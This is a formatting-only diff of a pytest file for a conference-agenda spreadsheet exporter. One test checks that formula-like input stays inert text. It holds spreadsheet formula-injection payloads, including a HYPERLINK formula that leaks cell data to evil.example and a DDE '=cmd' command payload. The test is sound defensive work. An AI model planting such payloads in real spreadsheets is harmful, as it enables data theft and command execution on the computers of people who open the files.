@@ -28,8 +28,15 @@ from forumdesk.services.people import create_person
 from forumdesk.services.sessions import create_session
 from forumdesk.services.venue import add_room, add_track
 
-EN_SHEETS = ["Programme", "Grid Thu 25 Nov", "Grid Fri 26 Nov", "Sign-in", "Rooms",
-             "Personal agendas", "People"]
+EN_SHEETS = [
+    "Programme",
+    "Grid Thu 25 Nov",
+    "Grid Fri 26 Nov",
+    "Sign-in",
+    "Rooms",
+    "Personal agendas",
+    "People",
+]
 
 
 @pytest.fixture
@@ -70,8 +77,11 @@ def _row_of(ws: Worksheet, column: int, value: object) -> int:
 
 def _formulas(path: Path) -> list[str]:
     with zipfile.ZipFile(path) as archive:
-        return [name for name in archive.namelist() if name.startswith("xl/worksheets/")
-                and re.search(rb"<f[ >]", archive.read(name))]
+        return [
+            name
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name))
+        ]
 
 
 # --- the demo forum ---------------------------------------------------------------------------
@@ -83,9 +93,14 @@ def test_every_part_becomes_its_sheet_in_order(demo_book: Path) -> None:
 
 def test_each_sheet_is_set_up_to_print(demo_book: Path) -> None:
     book = load_workbook(demo_book)
-    orientation = {"Programme": "landscape", "Grid Thu 25 Nov": "landscape",
-                   "Sign-in": "portrait", "Rooms": "landscape",
-                   "Personal agendas": "portrait", "People": "landscape"}
+    orientation = {
+        "Programme": "landscape",
+        "Grid Thu 25 Nov": "landscape",
+        "Sign-in": "portrait",
+        "Rooms": "landscape",
+        "Personal agendas": "portrait",
+        "People": "landscape",
+    }
     for ws in book.worksheets:
         assert ws.page_setup.paperSize == 9, ws.title  # A4
         assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0, ws.title
@@ -117,8 +132,7 @@ def test_the_programme_lists_sessions_day_by_day_with_their_people(demo_book: Pa
     ws = load_workbook(demo_book)["Programme"]
     rows = _values(ws)
     assert rows[0][0] == "International Anti-Counterfeiting Forum 2021"
-    assert rows[2] == ("Time", "Code", "Session", "Room", "Moderators",
-                       "Speakers and panelists")
+    assert rows[2] == ("Time", "Code", "Session", "Room", "Moderators", "Speakers and panelists")
     first_day = _row_of(ws, 1, "Thursday, 25 November 2021")
     second_day = _row_of(ws, 1, "Friday, 26 November 2021")
     assert first_day < second_day
@@ -128,12 +142,13 @@ def test_the_programme_lists_sessions_day_by_day_with_their_people(demo_book: Pa
     assert (time, code, room) == ("13:00–14:30", "S1", "Hall A")
     assert title.startswith("Illegal Turnover of Industrial Products")
     assert "Illicit Trade & Enforcement" in title  # the track
-    assert moderators == ("Ахметов Данияр Канатович, Ministry of Trade and Integration of "
-                          "the Republic of Kazakhstan")
+    assert moderators == (
+        "Ахметов Данияр Канатович, Ministry of Trade and Integration of the Republic of Kazakhstan"
+    )
     assert speakers.splitlines()[0] == "Speakers:"
     assert "Fiona MacLeod, Highland & Co. Spirits Ltd" in speakers.splitlines()
     # in time order: each start is no earlier than the one before, within a day
-    starts = [r[0][:5] for r in rows[first_day:second_day - 1] if r[0]]
+    starts = [r[0][:5] for r in rows[first_day : second_day - 1] if r[0]]
     assert starts == sorted(starts)
     # the day heading spans the row, and the next day starts a new page
     assert f"A{first_day}:F{first_day}" in {str(r) for r in ws.merged_cells.ranges}
@@ -168,7 +183,8 @@ def test_the_grid_shows_each_session_as_a_block_in_its_room(demo_book: Path) -> 
     start = _row_of(ws, 1, "13:00")
     assert ws.cell(start, 3).value.splitlines()[:2] == [
         "S1 · 13:00–14:30",
-        "Illegal Turnover of Industrial Products: Scale, Risks and Countermeasures"]
+        "Illegal Turnover of Industrial Products: Scale, Risks and Countermeasures",
+    ]
     assert ws.cell(start, 3).value.splitlines()[2] == "Moderators: Ахметов Данияр Канатович"
     merged = {str(r) for r in ws.merged_cells.ranges}
     assert f"C{start}:C{start + 5}" in merged  # 90 minutes at 15 a row
@@ -190,29 +206,32 @@ def test_the_grid_step_sets_the_rows(demo_data: AgendaData, tmp_path: Path) -> N
     assert f"C{start}:C{start + 2}" in {str(r) for r in ws.merged_cells.ranges}
 
 
-def test_sign_in_sheets_give_each_session_its_page(demo_book: Path,
-                                                   demo_data: AgendaData) -> None:
+def test_sign_in_sheets_give_each_session_its_page(demo_book: Path, demo_data: AgendaData) -> None:
     ws = load_workbook(demo_book)["Sign-in"]
     sessions = [s for s in demo_data.scheduled if not s.is_break]
     texts = _texts(ws)
     for session in sessions:
         assert session.heading in texts
     assert len(ws.row_breaks.brk) >= len(sessions) - 1
-    s1 = _row_of(ws, 1, "S1 · Illegal Turnover of Industrial Products: Scale, Risks and "
-                        "Countermeasures")
+    s1 = _row_of(
+        ws, 1, "S1 · Illegal Turnover of Industrial Products: Scale, Risks and Countermeasures"
+    )
     rows = _values(ws)
     assert rows[s1] == ("Thursday, 25 November 2021, 13:00–14:30, Hall A",) + (None,) * 4
     heads = next(n for n in range(s1, len(rows)) if rows[n][4] == "Signature") + 1
     assert rows[heads - 1] == ("No.", "Name", "Organisation", "Role", "Signature")
     first = rows[heads]
-    assert first[:4] == (1, "Ахметов Данияр Канатович",
-                         "Ministry of Trade and Integration of the Republic of Kazakhstan",
-                         "Moderator")
+    assert first[:4] == (
+        1,
+        "Ахметов Данияр Канатович",
+        "Ministry of Trade and Integration of the Republic of Kazakhstan",
+        "Moderator",
+    )
     assert first[4] is None  # left blank to sign
     assert ws.cell(heads + 1, 5).border.bottom.style == "thin"
     # everyone in the session, then blank numbered lines for walk-ins
     session = next(s for s in sessions if s.code == "S1")
-    listed = [r[1] for r in rows[heads:heads + len(session.people)]]
+    listed = [r[1] for r in rows[heads : heads + len(session.people)]]
     assert listed == [link.person.display_name for link in session.people]
     assert rows[heads + len(session.people)][:2] == (len(session.people) + 1, None)
 
@@ -222,8 +241,7 @@ def test_door_signs_give_each_room_a_page_per_day(demo_book: Path) -> None:
     texts = _texts(ws)
     assert texts.count("Hall A") == 2  # both days
     assert texts.count("Hall D") == 1  # used on the first day only
-    assert "S1 · Illegal Turnover of Industrial Products: Scale, Risks and Countermeasures" \
-        in texts
+    assert "S1 · Illegal Turnover of Industrial Products: Scale, Risks and Countermeasures" in texts
     hall_a = _row_of(ws, 1, "Hall A")
     assert ws.cell(hall_a, 1).font.sz >= 28
     signs = sum(1 for t in texts if t.startswith(("Plenary Hall", "Hall ")) and len(t) < 14)
@@ -235,8 +253,12 @@ def test_personal_agendas_default_to_moderators_and_speakers(
 ) -> None:
     ws = load_workbook(demo_book)["Personal agendas"]
     titles = {cell.value for cell in ws["A"] if cell.font.sz == 16 and cell.value}
-    leading = {link.person.display_name for s in demo_data.sessions for link in s.people
-               if link.role is not Role.PARTICIPANT}
+    leading = {
+        link.person.display_name
+        for s in demo_data.sessions
+        for link in s.people
+        if link.role is not Role.PARTICIPANT
+    }
     assert titles == leading
     assert len(ws.row_breaks.brk) == len(titles) - 1
 
@@ -248,11 +270,17 @@ def test_personal_agendas_can_cover_everyone_registered(
     write_agenda_workbook(demo_data, path, parts=["personal"], include_all_registered=True)
     ws = load_workbook(path)["Personal agendas"]
     titles = {cell.value for cell in ws["A"] if cell.font.sz == 16 and cell.value}
-    expected = {r.person.display_name for r in demo_data.registrations
-                if r.status is not RegistrationStatus.CANCELLED}
+    expected = {
+        r.person.display_name
+        for r in demo_data.registrations
+        if r.status is not RegistrationStatus.CANCELLED
+    }
     assert expected <= titles
-    cancelled = {r.person.display_name for r in demo_data.registrations
-                 if r.status is RegistrationStatus.CANCELLED}
+    cancelled = {
+        r.person.display_name
+        for r in demo_data.registrations
+        if r.status is RegistrationStatus.CANCELLED
+    }
     holding_roles = {link.person.display_name for s in demo_data.sessions for link in s.people}
     assert not (cancelled - holding_roles) & titles
 
@@ -262,13 +290,15 @@ def test_a_personal_agenda_lists_the_persons_sessions_with_roles(
 ) -> None:
     ws = load_workbook(demo_book)["Personal agendas"]
     start = _row_of(ws, 1, "Oliver Grant")
-    rows = _values(ws)[start - 1:]
-    end = next(i for i, r in enumerate(rows[1:], start=1) if r[0] and ws.cell(
-        start + i, 1).font.sz == 16)
+    rows = _values(ws)[start - 1 :]
+    end = next(
+        i for i, r in enumerate(rows[1:], start=1) if r[0] and ws.cell(start + i, 1).font.sz == 16
+    )
     own = {r[2]: r[4] for r in rows[:end] if r[4] and r[0] != "Date"}
     assert own == {
-        "S1 · Illegal Turnover of Industrial Products: Scale, Risks and Countermeasures":
-            "Panelist",
+        (
+            "S1 · Illegal Turnover of Industrial Products: Scale, Risks and Countermeasures"
+        ): "Panelist",
         "S5 · Counterfeit and Falsified Goods in the EAEU Market": "Participant",
         "S10 · International Cooperation Against Counterfeiting": "Participant",
     }
@@ -284,20 +314,38 @@ def test_people_is_a_filterable_table(demo_book: Path, demo_data: AgendaData) ->
     assert table.autoFilter is not None and table.autoFilter.ref == table.ref
     assert [c.name for c in table.tableColumns] == list(heads)
     berger = next(r for r in _values(ws) if r[0] == "Katharina Berger")
-    assert berger[1:] == ("International Anti-Counterfeiting Association", "Germany", "Other",
-                          "k.berger@iaca.org.example", "Confirmed",
-                          "Speaker: S5; Co-moderator: S10; Moderator: P2")
+    assert berger[1:] == (
+        "International Anti-Counterfeiting Association",
+        "Germany",
+        "Other",
+        "k.berger@iaca.org.example",
+        "Confirmed",
+        "Speaker: S5; Co-moderator: S10; Moderator: P2",
+    )
 
 
 def test_russian_headings(demo_data: AgendaData, tmp_path: Path) -> None:
     path = tmp_path / "ru.xlsx"
     write_agenda_workbook(demo_data, path, lang="ru")
     book = load_workbook(path)
-    assert book.sheetnames == ["Программа", "Сетка чт 25.11", "Сетка пт 26.11", "Регистрация",
-                               "Залы", "Личные программы", "Участники"]
+    assert book.sheetnames == [
+        "Программа",
+        "Сетка чт 25.11",
+        "Сетка пт 26.11",
+        "Регистрация",
+        "Залы",
+        "Личные программы",
+        "Участники",
+    ]
     ws = book["Программа"]
-    assert _values(ws)[2] == ("Время", "Код", "Сессия", "Зал", "Модераторы",
-                              "Спикеры и участники панели")
+    assert _values(ws)[2] == (
+        "Время",
+        "Код",
+        "Сессия",
+        "Зал",
+        "Модераторы",
+        "Спикеры и участники панели",
+    )
     assert _values(ws)[3][0] == "Четверг, 25 ноября 2021 г."
     assert ws.oddFooter.right.text == "Стр. &P из &N"
     assert ws.oddFooter.left.text == "Напечатано &D"
@@ -307,25 +355,57 @@ def test_russian_headings(demo_data: AgendaData, tmp_path: Path) -> None:
 
 
 def _cyrillic_event(db: Database) -> int:
-    event = create_event(db, "Форум «Защита & Право» 2027", "2027-05-12", "2027-05-13",
-                         city="Астана", venue="Конгресс-центр", timezone="Asia/Almaty")
+    event = create_event(
+        db,
+        "Форум «Защита & Право» 2027",
+        "2027-05-12",
+        "2027-05-13",
+        city="Астана",
+        venue="Конгресс-центр",
+        timezone="Asia/Almaty",
+    )
     hall = add_room(db, event.id, "Большой зал", 300)
     small = add_room(db, event.id, "Малый зал: переговорная", 40)
     track = add_track(db, event.id, "Фармацевтика", "#1F4E79")  # dark: white text
     day = dt.date(2027, 5, 12)
     at = lambda h, m=0: dt.datetime.combine(day, dt.time(h, m))  # noqa: E731
-    opening = create_session(db, event.id, "Открытие форума", code="П1",
-                             kind=SessionKind.PLENARY, room_id=hall.id,
-                             starts_at=at(10), ends_at=at(11, 30))
-    create_session(db, event.id, "Кофе-брейк", kind=SessionKind.BREAK,
-                   starts_at=at(11, 30), ends_at=at(12))
-    panel = create_session(db, event.id, "Патентная защита лекарств", code="С1",
-                           track_id=track.id, room_id=small.id, starts_at=at(12),
-                           ends_at=at(13, 30))
-    people = [create_person(db, "Ёлкина", "Анна", "Сергеевна", organization="Минздрав",
-                            email="elkina@example.ru", country="Казахстан"),
-              create_person(db, "Щербаков", "Юрий", "Петрович",
-                            organization="Евразийская патентная организация")]
+    opening = create_session(
+        db,
+        event.id,
+        "Открытие форума",
+        code="П1",
+        kind=SessionKind.PLENARY,
+        room_id=hall.id,
+        starts_at=at(10),
+        ends_at=at(11, 30),
+    )
+    create_session(
+        db, event.id, "Кофе-брейк", kind=SessionKind.BREAK, starts_at=at(11, 30), ends_at=at(12)
+    )
+    panel = create_session(
+        db,
+        event.id,
+        "Патентная защита лекарств",
+        code="С1",
+        track_id=track.id,
+        room_id=small.id,
+        starts_at=at(12),
+        ends_at=at(13, 30),
+    )
+    people = [
+        create_person(
+            db,
+            "Ёлкина",
+            "Анна",
+            "Сергеевна",
+            organization="Минздрав",
+            email="elkina@example.ru",
+            country="Казахстан",
+        ),
+        create_person(
+            db, "Щербаков", "Юрий", "Петрович", organization="Евразийская патентная организация"
+        ),
+    ]
     assign_people(db, opening.id, [people[0].id], Role.MODERATOR)
     assign_people(db, panel.id, [people[1].id], Role.SPEAKER)
     assign_people(db, panel.id, [people[0].id], Role.PARTICIPANT)
@@ -362,14 +442,24 @@ def test_text_that_looks_like_a_formula_stays_text(db: Database, tmp_path: Path)
     room = add_room(db, event.id, "@Room")
     start = dt.datetime(2027, 1, 10, 9)
     evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-    session = create_session(db, event.id, evil, code="+1", room_id=room.id,
-                             starts_at=start, ends_at=start + dt.timedelta(hours=1))
+    session = create_session(
+        db,
+        event.id,
+        evil,
+        code="+1",
+        room_id=room.id,
+        starts_at=start,
+        ends_at=start + dt.timedelta(hours=1),
+    )
     person = create_person(db, "-2+3", "@admin", organization="=1+1", email="x@example.org")
     other = create_person(db, "Normal", "Person", email="n@example.org")
     # Imports store what spreadsheets held; a leading tab or CR must not slip through either.
     with db.transaction() as session_:
-        session_.execute(update(Person).where(Person.id == other.id).values(
-            display_name="\tTabbed name", position="\rCR position"))
+        session_.execute(
+            update(Person)
+            .where(Person.id == other.id)
+            .values(display_name="\tTabbed name", position="\rCR position")
+        )
     assign_people(db, session.id, [person.id], Role.MODERATOR)
     assign_people(db, session.id, [other.id], Role.SPEAKER)
     register_people(db, event.id, [person.id, other.id])
@@ -378,10 +468,14 @@ def test_text_that_looks_like_a_formula_stays_text(db: Database, tmp_path: Path)
     write_agenda_workbook(load_agenda(db, event.id), path)
     assert _formulas(path) == []
     book = load_workbook(path)
-    found = {cell.value: cell for ws in book.worksheets for row in ws.iter_rows()
-             for cell in row if isinstance(cell.value, str)}
-    for text in (evil, "+1", "@Room", "=cmd|' /C calc'!A0", "@admin -2+3", "=1+1",
-                 "\tTabbed name"):
+    found = {
+        cell.value: cell
+        for ws in book.worksheets
+        for row in ws.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str)
+    }
+    for text in (evil, "+1", "@Room", "=cmd|' /C calc'!A0", "@admin -2+3", "=1+1", "\tTabbed name"):
         assert text in found, text
         assert found[text].data_type == "s"
         assert found[text].quotePrefix
@@ -393,12 +487,24 @@ def test_a_ten_hour_day_at_five_minutes(db: Database, tmp_path: Path) -> None:
     day = dt.datetime(2027, 3, 1, 8)
     for n in range(20):
         start = day + dt.timedelta(minutes=30 * n)
-        create_session(db, event.id, f"Session number {n} with a title that needs wrapping",
-                       code=f"L{n}", room_id=rooms[n % 3].id, starts_at=start,
-                       ends_at=start + dt.timedelta(minutes=5 if n % 2 else 45))
-    create_session(db, event.id, "Closing", code="END", room_id=rooms[0].id,
-                   starts_at=day + dt.timedelta(hours=9, minutes=55),
-                   ends_at=day + dt.timedelta(hours=10))
+        create_session(
+            db,
+            event.id,
+            f"Session number {n} with a title that needs wrapping",
+            code=f"L{n}",
+            room_id=rooms[n % 3].id,
+            starts_at=start,
+            ends_at=start + dt.timedelta(minutes=5 if n % 2 else 45),
+        )
+    create_session(
+        db,
+        event.id,
+        "Closing",
+        code="END",
+        room_id=rooms[0].id,
+        starts_at=day + dt.timedelta(hours=9, minutes=55),
+        ends_at=day + dt.timedelta(hours=10),
+    )
     path = tmp_path / "long.xlsx"
     write_agenda_workbook(load_agenda(db, event.id), path, parts=["grid"], grid_step=5)
     ws = load_workbook(path).worksheets[0]
@@ -406,8 +512,12 @@ def test_a_ten_hour_day_at_five_minutes(db: Database, tmp_path: Path) -> None:
     labels = [r[0] for r in _values(ws)[2:] if r[0]]
     assert labels[:3] == ["08:00", "08:15", "08:30"] and labels[-1] == "17:45"
     merged = [r for r in ws.merged_cells.ranges]
-    cells = [(row, col) for r in merged for row in range(r.min_row, r.max_row + 1)
-             for col in range(r.min_col, r.max_col + 1)]
+    cells = [
+        (row, col)
+        for r in merged
+        for row in range(r.min_row, r.max_row + 1)
+        for col in range(r.min_col, r.max_col + 1)
+    ]
     assert len(cells) == len(set(cells))  # no block overlaps another
     short = ws.cell(_row_of(ws, 1, "08:30"), 2 + 1)
     assert short.value.startswith("L1 · 08:30–08:35")
@@ -421,10 +531,23 @@ def test_double_booked_sessions_each_get_a_lane(db: Database, tmp_path: Path) ->
     room = add_room(db, event.id, "Hall")
     start = dt.datetime(2027, 3, 1, 10)
     for code in ("A", "B"):
-        create_session(db, event.id, f"Session {code}", code=code, room_id=room.id,
-                       starts_at=start, ends_at=start + dt.timedelta(hours=1))
-    create_session(db, event.id, "Roomless talk", code="C", starts_at=start,
-                   ends_at=start + dt.timedelta(minutes=30))
+        create_session(
+            db,
+            event.id,
+            f"Session {code}",
+            code=code,
+            room_id=room.id,
+            starts_at=start,
+            ends_at=start + dt.timedelta(hours=1),
+        )
+    create_session(
+        db,
+        event.id,
+        "Roomless talk",
+        code="C",
+        starts_at=start,
+        ends_at=start + dt.timedelta(minutes=30),
+    )
     path = tmp_path / "clash.xlsx"
     write_agenda_workbook(load_agenda(db, event.id), path, parts=["grid"])
     ws = load_workbook(path).worksheets[0]
@@ -439,11 +562,23 @@ def test_many_rooms_share_out_over_several_grid_sheets(db: Database, tmp_path: P
     start = dt.datetime(2027, 3, 1, 10)
     for n in range(1, 13):
         room = add_room(db, event.id, f"Room {n:02}")
-        create_session(db, event.id, f"Talk {n}", code=f"T{n}", room_id=room.id,
-                       starts_at=start, ends_at=start + dt.timedelta(hours=1))
-    create_session(db, event.id, "Lunch", kind=SessionKind.BREAK,
-                   starts_at=start + dt.timedelta(hours=1),
-                   ends_at=start + dt.timedelta(hours=2))
+        create_session(
+            db,
+            event.id,
+            f"Talk {n}",
+            code=f"T{n}",
+            room_id=room.id,
+            starts_at=start,
+            ends_at=start + dt.timedelta(hours=1),
+        )
+    create_session(
+        db,
+        event.id,
+        "Lunch",
+        kind=SessionKind.BREAK,
+        starts_at=start + dt.timedelta(hours=1),
+        ends_at=start + dt.timedelta(hours=2),
+    )
     path = tmp_path / "big.xlsx"
     result = write_agenda_workbook(load_agenda(db, event.id), path, parts=["grid"])
     assert result.sheets == ("Grid Mon 1 Mar (1-2)", "Grid Mon 1 Mar (2-2)")
@@ -459,8 +594,14 @@ def test_an_event_without_sessions_still_exports(db: Database, tmp_path: Path) -
     event = create_event(db, "Empty", "2027-03-01", timezone="UTC")
     path = tmp_path / "empty.xlsx"
     result = write_agenda_workbook(load_agenda(db, event.id), path)
-    assert load_workbook(path).sheetnames == ["Programme", "Grid", "Sign-in", "Rooms",
-                                              "Personal agendas", "People"]
+    assert load_workbook(path).sheetnames == [
+        "Programme",
+        "Grid",
+        "Sign-in",
+        "Rooms",
+        "Personal agendas",
+        "People",
+    ]
     assert len(result.sheets) == len(PARTS)
 
 
@@ -469,8 +610,11 @@ def test_an_event_without_sessions_still_exports(db: Database, tmp_path: Path) -
 
 def test_progress_counts_up_to_the_total(demo_data: AgendaData, tmp_path: Path) -> None:
     seen: list[tuple[int, int]] = []
-    write_agenda_workbook(demo_data, tmp_path / "p.xlsx",
-                          progress=lambda done, total: seen.append((done, total)) or True)
+    write_agenda_workbook(
+        demo_data,
+        tmp_path / "p.xlsx",
+        progress=lambda done, total: seen.append((done, total)) or True,
+    )
     totals = {total for _, total in seen}
     assert len(totals) == 1
     assert [done for done, _ in seen] == list(range(1, totals.pop() + 1))
